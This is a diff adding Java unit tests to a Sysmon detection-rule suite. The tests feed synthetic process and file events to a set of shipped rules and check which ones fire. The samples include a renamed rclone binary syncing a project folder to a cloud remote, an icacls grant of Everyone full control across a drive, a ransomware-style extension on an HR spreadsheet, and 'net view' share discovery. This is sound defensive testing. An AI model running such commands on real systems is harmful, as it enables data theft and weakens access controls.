@@ -123,4 +123,52 @@ class SysmonRulesTest {
             "C:\\Windows\\System32\\services.exe"));
     assertThat(benign).allMatch(Set::isEmpty);
   }
+
+  // ---------------------------------------------------------------- round 2 (lines written here)
+
+  private static String process(String image, String commandLine) {
+    return "{\"winlog\":{\"channel\":\"Microsoft-Windows-Sysmon/Operational\",\"event_id\":\"1\","
+        + "\"provider_name\":\"Microsoft-Windows-Sysmon\",\"event_data\":{\"Image\":\""
+        + image.replace("\\", "\\\\") + "\",\"CommandLine\":\"" + commandLine.replace("\\", "\\\\") + "\"}}}";
+  }
+
+  @Test
+  void renamedRcloneAndEveryoneFullControl() {
+    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.SYSMON, process("C:\\Users\\Public\\svc.exe",
+        "svc.exe sync D:\\Projects pcloud-x:dump --transfers 8 -q"))).contains("shield-proc-exfil-001");
+    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.SYSMON, process("C:\\Windows\\System32\\icacls.exe",
+        "icacls E:\\ /grant Everyone:(OI)(CI)F /T /C /Q"))).contains("shield-proc-evasion-050");
+  }
+
+  @Test
+  void narrowIcaclsGrantsAndLocalCopiesStayQuiet() {
+    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.SYSMON, process("C:\\Windows\\System32\\icacls.exe",
+        "icacls C:\\App\\logs /grant svc_app:(OI)(CI)M"))).isEmpty();
+    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.SYSMON, process("C:\\Windows\\System32\\robocopy.exe",
+        "robocopy D:\\Data E:\\Mirror /MIR"))).isEmpty();
+  }
+
+  private static String fileCreate(String image, String target) {
+    return "{\"winlog\":{\"channel\":\"Microsoft-Windows-Sysmon/Operational\",\"event_id\":\"11\","
+        + "\"provider_name\":\"Microsoft-Windows-Sysmon\",\"event_data\":{\"Image\":\""
+        + image.replace("\\", "\\\\") + "\",\"TargetFilename\":\"" + target.replace("\\", "\\\\") + "\"}}}";
+  }
+
+  @Test
+  void documentsRewrittenWithAnExtraExtensionButNotTemporaryCopies() {
+    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.SYSMON, fileCreate("C:\\ProgramData\\upd\\u.exe",
+        "E:\\Shares\\HR\\salaries.xlsx.kr4k3n"))).contains("shield-file-impact-050");
+    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.SYSMON, fileCreate("C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE",
+        "E:\\Shares\\HR\\salaries.xlsx.tmp"))).isEmpty();
+    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.SYSMON, fileCreate("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
+        "C:\\Users\\kim\\Downloads\\report.pdf.crdownload"))).isEmpty();
+  }
+
+  @Test
+  void shareDiscoveryWrittenWithExtraSpaces() {
+    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.SYSMON, process("C:\\Windows\\System32\\net.exe",
+        "net   view \\\\FILES-2 /all"))).contains("shield-proc-disc-007");
+    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.SYSMON, process("C:\\Windows\\System32\\net.exe", "net use Z: \\\\FILES-2\\home")))
+        .doesNotContain("shield-proc-disc-007");
+  }
 }
